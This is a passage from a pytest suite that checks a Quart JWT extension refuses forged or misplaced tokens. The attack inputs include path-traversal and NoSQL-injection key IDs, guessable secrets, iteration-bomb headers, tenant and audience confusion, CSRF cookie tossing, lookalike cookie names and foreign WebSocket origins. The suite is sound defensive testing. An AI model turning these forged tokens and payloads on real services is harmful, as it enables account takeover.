            *({"crit": [mark]}, {"crit": mark}, {"kid": [mark]}, {"kid": mark}, {"alg": mark}),
            *({"typ": mark}, {mark: mark}, {"crit": ["b64", mark], "b64": True}, {"b64": mark}),
        ]
        for header in headers:
            token = hs_token(claims, secret="x", header={"alg": "HS256", **header})
            for path in ("/protected", "/optional"):
                answer = await app.test_client().get(path, headers=bearer(token))
                assert answer.status_code == 401
                body = await answer.get_data()
                assert b"marked" not in body
                assert "marked" not in str(answer.headers)


@pytest.mark.parametrize("ensure_ascii", [True, False], ids=["ASCII", "UTF-8"])
async def test_surrogate_in_a_signed_identity_is_answered(ensure_ascii: bool) -> None:
    app = make_app()
    app.json.ensure_ascii = ensure_ascii  # type: ignore[attr-defined]
    manager_of(app).user_lookup_loader(lambda header, claims: None)
    token = hs_token(access_claims(identity="al\ud800ice"))
    answer = await kept_out(app, headers=bearer(token))
    assert answer == (401, {"msg": "Error loading the user al\\ud800ice"})


async def test_empty_file_that_a_kid_names_is_no_key(tmp_path: Path) -> None:
    """The classic needs an application that walks into the trap: the empty file is the key."""
    (tmp_path / "current").write_text(SECRET)
    app = make_app()
    manager_of(app).decode_key_loader(
        lambda claims, headers: (tmp_path / headers["kid"]).read_bytes()
    )
    good = hs_token(access_claims(), header={**HEADER, "kid": "current"})
    attacks = [
        hs_token(access_claims(), header={**HEADER, "kid": kid}, secret=b"")
        for kid in ("/dev/null", "../" * 20 + "dev/null")
    ]
    await refused_everywhere(app, good, attacks, message="HMAC key must not be empty.")


async def test_kid_longer_than_any_token_does_not_reach_the_loader() -> None:
    huge = "k" * 1_000_000
    app, asked = app_that_asks({"current": SECRET, huge: SECRET})
    good = hs_token(access_claims(), header={**HEADER, "kid": "current"})
    token = hs_token(access_claims(), header={**HEADER, "kid": huge})
    await refused_everywhere(app, good, [token])
    assert set(asked) == {"current"}


async def test_kid_that_is_no_string_is_refused_before_the_loader_is_asked() -> None:
    """A document store would take an object for a query: ``{"$ne": null}`` finds any key."""
    app, asked = app_that_asks({"current": SECRET})
    values = [{"$ne": None}, {"$gt": ""}, {"$regex": ".*"}, ["current"], [], {}, None, True, 0, 1.5]
    attacks = [hs_token(access_claims(), header={**HEADER, "kid": value}) for value in values]
    good = hs_token(access_claims(), header={**HEADER, "kid": "current"})
    await refused_everywhere(app, good, attacks, message="Key ID header parameter must be a string")
    assert set(asked) == {"current"}


async def test_claims_in_the_header_are_not_believed(app: Quart) -> None:
    """Only JWE replicates claims in its header (RFC 7519, section 5.3)."""
    claims = {"identity": "admin", "sub": "admin", "type": "access", "fresh": True, "exp": 2**40}
    header = {**HEADER, **claims}
    await let_in(app, headers=bearer(hs_token(access_claims(), header=header)))
    attacks = [
        hs_token(access_claims(identity=...), header=header),
        hs_token({}, header=header),
        hs_token(access_claims(type="none"), header=header),
    ]
    good = hs_token(access_claims())
    await refused_everywhere(app, good, attacks)
    expired = hs_token(access_claims(exp=1), header=header)
    await refused_everywhere(app, good, [expired], status=401, message="Token has expired")
    stale = hs_token(access_claims(), header=header)
    assert await kept_out(app, "/fresh", headers=bearer(stale)) == (
        401,
        {"msg": "Fresh token required"},
    )


async def test_unencoded_payload_is_refused(app: Quart) -> None:
    """``b64: false`` (RFC 7797) moves the border of what is signed; no JWT may use it."""
    claims = json.dumps(access_claims(), separators=(",", ":"))
    plain = claims.replace(".", "")
    for extra in ({}, {"crit": ["b64"]}, {"crit": ["b64", "exp"]}, {"crit": []}):
        segment = json_segment({**HEADER, "b64": False, **extra})
        attacks = []
        for signed_part, sent_part in (
            *((plain, ""), (b64url(claims.encode()), ""), ("", "")),
            (b64url(claims.encode()), b64url(claims.encode())),
        ):
            signing_input = f"{segment}.{signed_part}".encode()
            mac = hmac.new(SECRET.encode(), signing_input, hashlib.sha256).digest()
            attacks.append(f"{segment}.{sent_part}.{b64url(mac)}")
        await refused_everywhere(app, hs_token(access_claims()), attacks)
    # The value that means nothing is let in, so it is not the mere name that is refused.
    await let_in(app, headers=bearer(hs_token(access_claims(), header={**HEADER, "b64": True})))


async def test_unknown_critical_extension_is_refused(app: Quart) -> None:
    """An attacker who may add a restriction must not see it ignored (RFC 7515, 4.1.11)."""
    good = hs_token(access_claims())
    headers: list[dict[str, Any]] = [
        *({"crit": [name], name: 1} for name in ("exp", "alg", "cnf", "http://example.com/x", "")),
        *({"crit": value} for value in ([], None, "b64", {}, 0, False, [1], [["b64"]], ["b64"])),
    ]
    attacks = [hs_token(access_claims(), header={**HEADER, **header}) for header in headers]
    await refused_everywhere(app, good, attacks)


async def test_password_based_encryption_bomb_is_refused(app: Quart) -> None:
    """``p2c`` asks for billions of iterations before anything is known of the sender."""
    bomb = {"p2c": 2**62, "p2s": b64url(b"salt" * 4), "enc": "A256GCM"}
    names = ["PBES2-HS256+A128KW", "PBES2-HS512+A256KW", "dir", "A256KW", "ECDH-ES", "RSA1_5"]
    attacks = [hs_token(access_claims(), header={"alg": name, **bomb}) for name in names]
    await refused_everywhere(app, hs_token(access_claims()), attacks, message=NOT_ALLOWED)
    # Under the right algorithm the parameters mean nothing.
    await let_in(app, headers=bearer(hs_token(access_claims(), header={**HEADER, **bomb})))


# --- Secrets -------------------------------------------------------------------------------------


async def test_blank_secret_verifies_nothing(app: Quart) -> None:
    """A secret that is not set is the operator's fault, and lets nobody in meanwhile."""
    blanks = [b"", b"\0", b" ", b"None", b"null", b"undefined", b"False", b'""']
    attacks = [token for secret in blanks for token in hmac_by(secret)]
    good = hs_token(access_claims())
    await refused_everywhere(app, good, [t for t in attacks if t.startswith(good.split(".")[0])])
    for option, blank in itertools.product(("JWT_SECRET_KEY", "SECRET_KEY"), (None, "", b"")):
        unset = make_app(JWT_SECRET_KEY=None)
        unset.config[option] = blank
        for token in attacks[:3]:
            unset.config["JWT_ALGORITHM"] = jwt.get_unverified_header(token)["alg"]
            text = "JWT_SECRET_KEY or SECRET_KEY must be set"
            await fails(unset, RuntimeError, text, headers=bearer(token))
            async with unset.app_context():
                with pytest.raises(RuntimeError, match="must be set"):
                    qje.decode_token(token)
        unset.config.update(JWT_SECRET_KEY=SECRET, JWT_ALGORITHM="HS256")
        await let_in(unset, headers=bearer(good))


async def test_blank_key_from_a_loader_verifies_nothing() -> None:
    keys: dict[str, Any] = {"current": SECRET, "empty": "", "no bytes": b"", "none": None}
    keys |= {"false": False, "zero": 0, "list": [], "dict": {}}
    app = make_app(JWT_DECODE_ALGORITHMS=HMAC_ALGORITHMS)
    manager_of(app).decode_key_loader(lambda claims, headers: keys[headers["kid"]])
    attacks = [
        hs_token(access_claims(), secret=secret, alg=alg, header={"alg": alg, "kid": kid})
        for kid in keys
        for alg in HMAC_ALGORITHMS
        for secret in (b"", b"\0", b"None", b"False", b"0", b"[]", b"{}")
    ]
    good = hs_token(access_claims(), header={**HEADER, "kid": "current"})
    await refused_everywhere(app, good, attacks)
    for signer in (RSA, P256, ED25519):
        app = key_app(signer)
        keys["current"] = public_pem(private_key(signer.kind))
        manager_of(app).decode_key_loader(lambda claims, headers: keys[headers["kid"]])
        attacks = [
            signed(signer, owner=owner, header={"kid": kid})
            for kid in keys
            if kid != "current"
            for owner in ("service", "stranger")
        ]
        await refused_everywhere(app, signed(signer, header={"kid": "current"}), attacks)


async def test_refusal_over_a_wrong_kind_of_key_shows_no_memory_address() -> None:
    """Where things lie in memory is half of an exploit. PyJWT's text has a generator's repr."""
    keys = {signer.kind: public_pem(private_key(signer.kind)) for signer in (RSA, P256, ED25519)}
    app = key_app(RSA, JWT_DECODE_ALGORITHMS=["RS256", "PS256", "ES256", "EdDSA"])
    manager_of(app).decode_key_loader(lambda claims, headers: keys.get(headers["kid"]))
    await let_in(app, headers=bearer(signed(RSA, header={"kid": "RSA"})))
    for signer, kid in itertools.product((RSA, P256, ED25519), (*keys, "unknown")):
        if signer.kind != kid:
            forged = signed(signer, header={"kid": kid})
            _, body = await kept_out(app, headers=bearer(forged))
            assert "0x" not in body["msg"]
            assert "object at" not in body["msg"]


async def test_guessable_secret_is_refused(app: Quart) -> None:
    """The first lines of every word list, and what people append to a real secret."""
    words = [
        *(
            "secret",
            "password",
            "changeme",
            "jwt",
            "key",
            "test",
            "admin",
            "123456",
            "your-256-bit",
        ),
        *("your-256-bit-secret", "super-secret", "dev", "quart", "flask", "JWT_SECRET_KEY"),
        *("a-string-secret-at-least-256-bits-long", SECRET.upper(), SECRET[:-1], f"{SECRET}\n"),
    ]
    attacks = [hs_token(access_claims(), secret=word) for word in words]
    await refused_everywhere(app, hs_token(access_claims()), attacks, message=BAD_SIGNATURE)


async def test_session_cookie_as_token_is_refused() -> None:
    """It has three segments and is signed with the secret that JWT_SECRET_KEY falls back to."""
    app = make_app(JWT_SECRET_KEY=None, SECRET_KEY=SECRET)

    @app.get("/session")
    async def fill_session() -> str:
        session["identity"] = "alice"
        return "filled"

    response = await app.test_client().get("/session")
    value = response.headers["Set-Cookie"].partition("=")[2].partition(";")[0]
    payload, stamp, signature = value.split(".")
    assert len(signature) > 20
    attacks = [value, f"{json_segment(HEADER)}.{payload}.{signature}"]
    await refused_everywhere(app, hs_token(access_claims()), attacks)


# --- Genuine tokens in the wrong place -----------------------------------------------------------

TYPE_APP = {
    "JWT_TOKEN_LOCATION": ["headers", "cookies", "query_string", "json"],
    "JWT_COOKIE_CSRF_PROTECT": False,
}


def every_way(token: str, kind: str) -> list[dict[str, Any]]:
    """Requests that carry a token where a token of the kind is looked for."""
    return [
        {"headers": bearer(token)},
        {"headers": cookies((f"{kind}_token_cookie", token))},
        {"query_string": {"jwt": token}},
        {"method": "POST", "json": {f"{kind}_token": token}},
    ]


async def test_refresh_token_as_access_token_is_refused() -> None:
    app = make_app(**TYPE_APP)
    good, refresh = hs_token(access_claims(fresh=True)), hs_token(refresh_claims())
    message = {"msg": "Only access tokens are allowed"}
    for path in ("/protected", "/optional", "/fresh"):
        for request in every_way(good, "access"):
            await let_in(app, path, **request)
        for token in (refresh, hs_token(refresh_claims(fresh=True))):
            for request in every_way(token, "access"):
                assert await kept_out(app, path, **request) == (422, message)
    # Where it belongs, it is good; where an access cookie is looked for, it is not seen at all.
    await let_in(app, "/refresh", headers=bearer(refresh))
    status, _ = await kept_out(app, headers=cookies((REFRESH_COOKIE, refresh)))
    assert status == 401


async def test_access_token_as_refresh_token_is_refused() -> None:
    app = make_app(**TYPE_APP)
    good, access = hs_token(refresh_claims()), hs_token(access_claims(fresh=True))
    message = {"msg": "Only refresh tokens are allowed"}
    # A token without a type counts as an access token.
    for token in (access, hs_token(access_claims(type=...))):
        for request in every_way(token, "refresh"):
            assert await kept_out(app, "/refresh", **request) == (422, message)
        await let_in(app, headers=bearer(token))
    for request in every_way(good, "refresh"):
        await let_in(app, "/refresh", **request)


async def test_token_of_another_app_is_refused() -> None:
    ours, other = make_app(), make_app(JWT_SECRET_KEY=ATTACKERS_SECRET)
    async with other.app_context():
        theirs = [qje.create_access_token("alice", fresh=True), qje.create_refresh_token("alice")]
    await let_in(other, headers=bearer(theirs[0]))
    await refused_everywhere(ours, hs_token(access_claims()), theirs, message=BAD_SIGNATURE)
    await let_in(other, headers=bearer(theirs[0]))


async def test_token_of_another_app_with_the_same_secret_is_refused_by_its_issuer() -> None:
    ours = make_app(JWT_ENCODE_ISSUER="billing", JWT_DECODE_ISSUER="billing")
    other = make_app(JWT_ENCODE_ISSUER="wiki", JWT_DECODE_ISSUER="wiki")
    async with ours.app_context():
        good = qje.create_access_token("alice")
    async with other.app_context():
        theirs = [qje.create_access_token("alice"), qje.create_refresh_token("alice")]
    await let_in(other, headers=bearer(theirs[0]))
    odd = ["", "Billing", "billing ", "billing/", "bill", None, ["billing"], {"billing": 1}, True]
    theirs += [hs_token(access_claims(iss=issuer)) for issuer in odd]
    theirs.append(hs_token(access_claims()))
    await refused_everywhere(ours, good, theirs)


async def test_token_of_another_app_with_the_same_secret_is_refused_by_its_audience() -> None:
    ours = make_app(JWT_ENCODE_AUDIENCE="billing", JWT_DECODE_AUDIENCE="billing")
    other = make_app(JWT_ENCODE_AUDIENCE="wiki", JWT_DECODE_AUDIENCE="wiki")
    async with ours.app_context():
        good = qje.create_access_token("alice")
    async with other.app_context():
        theirs = [qje.create_access_token("alice"), qje.create_refresh_token("alice")]
    await let_in(other, headers=bearer(theirs[0]))
    odd = ["", "Billing", "billing ", "bill", None, [], ["wiki"], [["billing"]], {"billing": 1}]
    odd += [["billing", 1], True, "billing,wiki", "billing wiki"]
    theirs += [hs_token(access_claims(aud=audience)) for audience in odd]
    theirs.append(hs_token(access_claims()))
    await refused_everywhere(ours, good, theirs)
    # An app that names no audience takes no token that is meant for somebody.
    open_app = make_app()
    addressed = [hs_token(access_claims(aud=audience)) for audience in ("wiki", ["wiki"], "x")]
    await refused_everywhere(open_app, hs_token(access_claims()), addressed)


async def test_token_of_another_tenant_is_refused() -> None:
    """Keys per tenant, found by a claim that nobody has verified yet when the loader reads it."""
    keys = {"red": SECRET, "blue": ATTACKERS_SECRET}
    app = make_app()
    manager_of(app).decode_key_loader(lambda claims, headers: keys.get(claims.get("tenant")))

    def by(tenant: str, **claims: Any) -> str:
        return hs_token(access_claims(tenant=tenant, **claims), secret=keys[tenant])

    await let_in(app, headers=bearer(by("blue", identity="bob")), identity="bob")
    header, _, signature = by("blue").split(".")
    _, payload, _ = by("red").split(".")
    attacks = [
        # The secret of blue is known to the attacker, who wants to be somebody of red.
        hs_token(access_claims(tenant="red"), secret=keys["blue"]),
        f"{header}.{payload}.{signature}",
        *(
            hs_token(access_claims(tenant=tenant), secret=keys["blue"])
            for tenant in ("green", "", "Red", "red ", None, 0)
        ),
        # Two tenants in one token: the loader and the view would read different ones.
        hs_token(
            json.dumps(access_claims(tenant="red")).replace("{", '{"tenant":"blue",', 1).encode(),
            secret=keys["blue"],
        ),
        hs_token(
            json.dumps(access_claims(tenant="blue")).replace("{", '{"tenant":"red",', 1).encode(),
            secret=keys["blue"],
        ),
    ]
    await refused_everywhere(app, by("red"), attacks)


async def test_token_of_a_retired_key_is_refused() -> None:
    keys = {"old": ATTACKERS_SECRET, "new": SECRET}
    app = make_app(JWT_SIGNATURE_CACHE_SIZE=10)
    manager_of(app).decode_key_loader(lambda claims, headers: keys.get(headers.get("kid")))
    old = hs_token(access_claims(), secret=keys["old"], header={**HEADER, "kid": "old"})
    await let_in(app, headers=bearer(old))
    del keys["old"]
    attacks = [
        old,
        hs_token(access_claims(), secret=ATTACKERS_SECRET, header={**HEADER, "kid": "new"}),
        hs_token(access_claims(), secret=ATTACKERS_SECRET),
    ]
    good = hs_token(access_claims(), header={**HEADER, "kid": "new"})
    await refused_everywhere(app, good, attacks)


async def test_token_of_another_kind_with_the_same_secret_is_refused(app: Quart) -> None:
    """Cross-JWT confusion: what is no token of ours names no identity, or is for somebody else."""
    times = {"iat": LONG_AGO, "exp": FAR_FUTURE}
    others: list[dict[str, Any]] = [
        # Flask-JWT-Extended, an OpenID token, an access token of RFC 9068, a password reset.
        {**times, "sub": "alice", "type": "access", "fresh": True, "jti": "1", "nbf": LONG_AGO},
        {**times, "sub": "alice", "iss": "https://id.example", "aud": "client", "nonce": "n"},
        {**times, "sub": "alice", "client_id": "c", "scope": "all", "aud": "https://api.example"},
        {**times, "reset_password": "alice"},
    ]
    attacks = [hs_token(claims) for claims in others]
    attacks += [hs_token({**claims, "identity": "alice", "type": "reset"}) for claims in others]
    await refused_everywhere(app, hs_token(access_claims()), attacks)


async def test_stale_token_on_a_view_that_wants_a_fresh_one_is_refused(app: Quart) -> None:
    await let_in(app, "/fresh", headers=bearer(hs_token(access_claims(fresh=True))))
    await let_in(app, "/fresh", headers=bearer(hs_token(access_claims(fresh=FAR_FUTURE))))
    for stale in (False, ..., None, 0, 1, 0.0, -1, LONG_AGO, LONG_AGO + 0.5, -(10**400)):
        token = hs_token(access_claims(fresh=stale))
        answer = await kept_out(app, "/fresh", headers=bearer(token))
        assert answer == (401, {"msg": "Fresh token required"})
        await let_in(app, headers=bearer(token))
    for odd in ("true", "True", "1", [True], {"a": 1}):
        answer = await kept_out(app, "/fresh", headers=bearer(hs_token(access_claims(fresh=odd))))
        assert answer == (422, {"msg": "Missing or invalid claim: fresh"})


async def test_token_without_the_scope_is_refused(app: Quart) -> None:
    @app.get("/admin")
    @qje.jwt_required(scopes="admin:write")
    async def admin() -> dict[str, Any]:
        app.calls.append("admin")
        return {"identity": qje.get_jwt_identity()}

    for scope in ("admin:write", "read admin:write", ["admin:write"]):
        await let_in(app, "/admin", headers=bearer(hs_token(access_claims(scope=scope))))
    lesser: list[Any] = [
        *(..., "", " ", "admin", "write", "admin:writer", "xadmin:write", "ADMIN:WRITE", "*"),
        *("admin:*", "admin: write", "read,admin:write", "admin:write\0", "admin:write\n"),
        *("\uff41dmin:write", [], ["admin"], [["admin:write"]], ["read admin:write"], [True]),
    ]
    for scope in lesser:
        token = hs_token(access_claims(scope=scope))
        answer = await kept_out(app, "/admin", headers=bearer(token))
        assert answer == (403, {"msg": "Insufficient scope"}), scope
        await let_in(app, headers=bearer(token))
    for odd in (True, 1, {"admin:write": True}, None):
        answer = await kept_out(app, "/admin", headers=bearer(hs_token(access_claims(scope=odd))))
        assert answer == (422, {"msg": "Missing or invalid claim: scope"})
    for elsewhere in (
        *({"user_claims": {"scope": "admin:write"}}, {"scopes": "admin:write"}),
        *({"Scope": "admin:write"}, {"scope ": "admin:write"}, {"scp": "admin:write"}),
    ):
        token = hs_token(access_claims(**elsewhere))
        assert (await kept_out(app, "/admin", headers=bearer(token)))[0] == 403


# --- Cookies and CSRF ----------------------------------------------------------------------------


def csrf_app(**options: Any) -> Quart:
    return make_app(**{"JWT_TOKEN_LOCATION": ["cookies"], **options})


def csrf_claim_of(token: str) -> str:
    claims: dict[str, Any] = jwt.decode(token, options={"verify_signature": False})
    return claims["csrf"]


async def made_for(app: Quart, identity: str) -> str:
    """A token of the application's own, with a CSRF value of its own."""
    async with app.app_context():
        return qje.create_access_token(identity)


async def test_csrf_value_of_another_session_is_refused() -> None:
    app = csrf_app()
    alice, mallory = await made_for(app, "alice"), await made_for(app, "mallory")
    older = await made_for(app, "alice")
    right = {"X-CSRF-TOKEN": csrf_claim_of(alice)}
    victim = cookies((ACCESS_COOKIE, alice))
    await let_in(app, method="POST", headers={**victim, **right})
    for value in (csrf_claim_of(mallory), csrf_claim_of(older), alice, csrf_claim_of(alice)[:-1]):
        for method in ("POST", "PUT", "PATCH", "DELETE"):
            headers = {**victim, "X-CSRF-TOKEN": value}
            assert await kept_out(app, method=method, headers=headers) == WRONG_CSRF
        async with app.app_context():
            with pytest.raises(qje.exceptions.CSRFError):
                qje.decode_token(alice, csrf_value=value)
    # No callback for expired tokens gets to see the claims of a forged request.
    expired = hs_token(access_claims(exp=1, csrf="x"))
    headers = {**cookies((ACCESS_COOKIE, expired)), "X-CSRF-TOKEN": csrf_claim_of(mallory)}
    assert await kept_out(app, method="POST", headers=headers) == WRONG_CSRF
    async with app.app_context():
        assert qje.decode_token(alice, csrf_value=csrf_claim_of(alice))["identity"] == "alice"
    await let_in(app, method="POST", headers={**victim, **right})


async def test_csrf_value_in_a_cookie_only_is_refused() -> None:
    """A browser adds every cookie to a forged request, the one with the value too."""
    app = csrf_app()
    alice = await made_for(app, "alice")
    value = csrf_claim_of(alice)
    for name in ("csrf_access_token", "X-CSRF-TOKEN", "csrf_token", "csrf"):
        headers = cookies((ACCESS_COOKIE, alice), (name, value))
        assert await kept_out(app, method="POST", headers=headers) == MISSING_CSRF
        await let_in(app, method="POST", headers={**headers, "X-CSRF-TOKEN": value})


async def test_csrf_value_where_a_form_or_link_can_put_it_is_refused() -> None:
    """Only a page of our own can set a header; forms count where the option says so."""
    app = csrf_app()
    alice = await made_for(app, "alice")
    value = csrf_claim_of(alice)
    victim = cookies((ACCESS_COOKIE, alice))
    for name in ("csrf_token", "X-CSRF-TOKEN", "csrf", "csrf_access_token"):
        for request in (
            *({"form": {name: value}}, {"json": {name: value}}, {"query_string": {name: value}}),
        ):
            answer = await kept_out(app, method="POST", headers=dict(victim), **request)
            assert answer == MISSING_CSRF
    by_header = {**victim, "X-CSRF-TOKEN": value}
    await let_in(app, method="POST", headers=by_header)
    # Where forms count, the value still has to be the right one.
    app = csrf_app(JWT_CSRF_CHECK_FORM=True)
    await let_in(app, method="POST", headers=dict(victim), form={"csrf_token": value})
    answer = await kept_out(app, method="POST", headers=dict(victim), form={"csrf_token": "x"})
    assert answer == WRONG_CSRF


async def test_csrf_pair_planted_by_the_attacker_is_refused() -> None:
    """A naive double submit compares a cookie with a header, and both can be planted."""
    app = csrf_app()
    alice = await made_for(app, "alice")
    for planted in ("planted", "", "0", "null", "undefined"):
        headers = cookies((ACCESS_COOKIE, alice), ("csrf_access_token", planted))
        headers["X-CSRF-TOKEN"] = planted
        answer = await kept_out(app, method="POST", headers=headers)
        assert answer == (WRONG_CSRF if planted else MISSING_CSRF)
    headers["X-CSRF-TOKEN"] = csrf_claim_of(alice)
    await let_in(app, method="POST", headers=headers)


async def test_method_in_disguise_does_not_skip_csrf() -> None:
    """Other spellings of POST, and what asks a framework to take one method for another."""
    app = csrf_app()
    alice = await made_for(app, "alice")
    victim = cookies((ACCESS_COOKIE, alice))
    disguises = ("X-HTTP-Method-Override", "X-HTTP-Method", "X-Method-Override")
    for method in ("POST", "post", "Post", "pOsT"):
        assert await kept_out(app, method=method, headers=dict(victim)) == MISSING_CSRF
        for name in disguises:
            headers = {**victim, name: "GET"}
            assert await kept_out(app, method=method, headers=headers) == MISSING_CSRF
        query = {"_method": "GET", "method": "GET"}
        answer = await kept_out(app, method=method, headers=dict(victim), query_string=query)
        assert answer == MISSING_CSRF
    await let_in(app, method="GET", headers=dict(victim))
    headers = {**victim, "X-CSRF-TOKEN": csrf_claim_of(alice)}
    await let_in(app, method="POST", headers=headers)


async def test_token_in_a_cookie_without_a_csrf_claim_is_refused() -> None:
    """A token from the days before protection, or meant for a header, opens no back door."""
    app = csrf_app()
    bare = hs_token(access_claims())
    for value in ("", "None", "null", "undefined", "x"):
        headers = {**cookies((ACCESS_COOKIE, bare)), "X-CSRF-TOKEN": value}
        status, _ = await kept_out(app, method="POST", headers=headers)
        assert status == (422 if value else 401)
    alice = await made_for(app, "alice")
    headers = {**cookies((ACCESS_COOKIE, alice)), "X-CSRF-TOKEN": csrf_claim_of(alice)}
    await let_in(app, method="POST", headers=headers)


async def test_tossed_cookie_is_never_mixed_with_the_real_one() -> None:
    """A sibling domain can add a second cookie of the same name, and browsers send both.

    The first one counts, for the identity and for the CSRF value, so that no request of one
    session is carried out in the name of the other. ``__Host-`` names keep the second one away.
    """
    app = csrf_app()
    alice, mallory = await made_for(app, "alice"), await made_for(app, "mallory")
    forged = hs_token(access_claims(csrf=csrf_claim_of(alice)), secret=ATTACKERS_SECRET)
    ours = {"X-CSRF-TOKEN": csrf_claim_of(alice)}
    theirs = {"X-CSRF-TOKEN": csrf_claim_of(mallory)}

    def both(first: str, second: str) -> list[dict[str, str]]:
        one_field = cookies((ACCESS_COOKIE, first), (ACCESS_COOKIE, second))
        quoted = {"Cookie": f'{ACCESS_COOKIE}="{first}"; {ACCESS_COOKIE}={second}'}
        return [one_field, quoted]

    for pair in both(mallory, alice):
        assert await kept_out(app, method="POST", headers={**pair, **ours}) == WRONG_CSRF
        await let_in(app, method="POST", headers={**pair, **theirs}, identity="mallory")
    for pair in both(alice, mallory):
        assert await kept_out(app, method="POST", headers={**pair, **theirs}) == WRONG_CSRF
        await let_in(app, method="POST", headers={**pair, **ours})
    for pair in both(forged, alice):
        answer = await kept_out(app, method="POST", headers={**pair, **ours})
        assert answer == (422, {"msg": BAD_SIGNATURE})
    # Two Cookie fields, as HTTP/2 allows.
    for tokens, identity in (((alice, mallory), "alice"), ((mallory, alice), "mallory")):
        fields = Headers([("Cookie", f"{ACCESS_COOKIE}={token}") for token in tokens])
        await let_in(app, headers=fields, identity=identity)
        right = csrf_claim_of(tokens[0])
        wrong = Headers([*fields, ("X-CSRF-TOKEN", csrf_claim_of(tokens[1]))])
        assert await kept_out(app, method="POST", headers=wrong) == WRONG_CSRF
        both_right = Headers([*fields, ("X-CSRF-TOKEN", right)])
        await let_in(app, method="POST", headers=both_right, identity=identity)


LOOKALIKES = {
    "other prefix": "access_token_cookie={}",
    "other case": "__host-access={}",
    "nameless, the name in the value": "=__Host-access={}",
    "nameless, behind a space": "= __Host-access={}",
    "quoted by another": 'a="b; c=__Host-access={}; d="',
    "inside another value": "a=__Host-access={}",
    "longer name": "__Host-access2={}",
    "name with a tail": "__Host-access\xa0={}",
    "name with a head": "x__Host-access={}",
    "comma": "a=b,__Host-access={}",
    "ampersand": "a=b&__Host-access={}",
    "name with a control character": "__Host-acc\x01ess={}",
    "percent": "__Host%2Daccess={}",
    "fullwidth": "\uff3f\uff3fHost-access={}",
    "soft hyphen": "__Host\u00ad-access={}",
    "dotless": "__Host-acce\u017fs={}",
}


@pytest.mark.parametrize("case", LOOKALIKES)
async def test_cookie_of_a_lookalike_name_is_not_read(case: str) -> None:
    """What a browser lets anybody set must not pass for a cookie whose prefix binds it to us.

    A cookie without a name was read as one with the name in its value (CVE-2023-23934).
    """
    app = csrf_app(
        JWT_ACCESS_COOKIE_NAME="__Host-access", JWT_COOKIE_SECURE=True, JWT_SESSION_COOKIE=True
    )
    alice, mallory = await made_for(app, "alice"), await made_for(app, "mallory")
    good = f"__Host-access={alice}"
    # As the bytes come in from the wire.
    planted = LOOKALIKES[case].format(mallory).encode().decode("latin-1")
    answer = await kept_out(app, headers={"Cookie": planted})
    assert answer == (401, {"msg": 'Missing cookie "__Host-access"'})
    await let_in(app, headers={"Cookie": good})
    await let_in(app, headers={"Cookie": f"{planted}; {good}"})
    await let_in(app, headers={"Cookie": f"{good}; {planted}"})


async def test_websocket_of_a_foreign_page_is_refused() -> None:
    """Cookies go along with a handshake from any page, and CORS does not stop it (CSWSH)."""
    app = csrf_app()

    @app.websocket("/socket")
    @qje.jwt_required
    async def socket() -> None:
        app.calls.append("socket")
        await websocket.send(qje.get_jwt_identity())

    alice = await made_for(app, "alice")
    victim = cookies((ACCESS_COOKIE, alice))
    client = app.test_client()
    origins = [
        *("https://attacker.example", "null", "", "http://localhost.attacker.example"),
        *("http://localhost:81", "http://localhost@attacker.example", "file://", "localhost"),
    ]
    for origin in origins:
        with pytest.raises(WebsocketResponseError) as refusal:
            async with client.websocket("/socket", headers={**victim, "Origin": origin}) as socket_:
                await socket_.receive()
        assert refusal.value.response.status_code == 403
    assert app.calls == []
    async with client.websocket(
        "/socket", headers={**victim, "Origin": "http://localhost"}
    ) as socket_:
        assert await socket_.receive() == "alice"
    assert app.calls == ["socket"]


# --- Several credentials in one request ----------------------------------------------------------

LOCATIONS = ["headers", "cookies", "query_string", "json"]


@pytest.mark.parametrize("order", list(itertools.permutations(LOCATIONS, 2)), ids="-".join)
async def test_token_in_a_second_location_does_not_help_a_bad_one(order: tuple[str, str]) -> None:
    app = make_app(JWT_TOKEN_LOCATION=list(order), JWT_COOKIE_CSRF_PROTECT=False)
    good, other = hs_token(access_claims()), hs_token(access_claims(identity="bob"))

    def request(first: str, second: str) -> dict[str, Any]:
        merged: dict[str, Any] = {"method": "POST", "headers": {}}
        for location, token in zip(order, (first, second), strict=True):
            if location == "headers":
                merged["headers"] |= bearer(token)
            elif location == "cookies":
                merged["headers"] |= cookies((ACCESS_COOKIE, token))
            elif location == "query_string":
                merged["query_string"] = {"jwt": token}
            else:
                merged["json"] = {"access_token": token}
        return merged

    bad = {
        hs_token(access_claims(), secret=ATTACKERS_SECRET): 422,
        hs_token(access_claims(exp=1)): 401,
        hs_token(refresh_claims()): 422,
        "x": 422,
    }
    for token, status in bad.items():
        for path in ("/protected", "/optional"):
            answer = await kept_out(app, path, **request(token, good))
            assert answer[0] == status
            await let_in(app, path, **request(good, token))
    # Both good: the configured order decides, whoever sends what.
    await let_in(app, **request(good, other))
    await let_in(app, **request(other, good), identity="bob")


async def test_second_authorization_header_does_not_help_a_bad_one(app: Quart) -> None:
    good, other = hs_token(access_claims()), hs_token(access_claims(identity="bob"))
    forged = hs_token(access_claims(), secret=ATTACKERS_SECRET)

    def fields(*values: str) -> Headers:
        return Headers([("Authorization", value) for value in values])

    for path in ("/protected", "/optional"):
        answer = await kept_out(app, path, headers=fields(f"Bearer {forged}", f"Bearer {good}"))
        assert answer == (422, {"msg": BAD_SIGNATURE})
        await let_in(app, path, headers=fields(f"Bearer {good}", f"Bearer {forged}"))
    # One list of credentials in one field, where the first one of our scheme counts.
    answer = await kept_out(app, headers=fields(f"Bearer {forged}, Bearer {good}"))
    assert answer == (422, {"msg": BAD_SIGNATURE})
    await let_in(app, headers=fields(f"Bearer {good}, Bearer {forged}"))
    await let_in(app, headers=fields(f"Bearer {good}", f"Bearer {other}"))
    await let_in(app, headers=fields(f"Bearer {other}", f"Bearer {good}"), identity="bob")
    for first in ("Basic YWxpY2U6", "Bearer", "Bearer ", ""):
        status, _ = await kept_out(app, headers=fields(first, f"Bearer {good}"))
        assert status in (401, 422)


async def test_repeated_parameter_does_not_help_a_bad_token() -> None:
    """Parameter pollution: the one that counts is the one that Quart gives to the view."""
    app = make_app(JWT_TOKEN_LOCATION=["query_string", "json"])
    good, forged = hs_token(access_claims()), hs_token(access_claims(), secret=ATTACKERS_SECRET)
    await let_in(app, f"/protected?jwt={good}")
    for query in (
        *(f"jwt={forged}&jwt={good}", f"jwt={forged},{good}", f"jwt={forged}%00{good}"),
        *(f"jwt={forged}%26jwt={good}", f"%6awt={forged}&jwt={good}", f"jwt=x&jwt={good}"),
    ):
        assert (await kept_out(app, f"/protected?{query}"))[0] == 422
    for query in (
        f"jwt[]={good}",
        f"JWT={good}",
        f"jwt%20={good}",
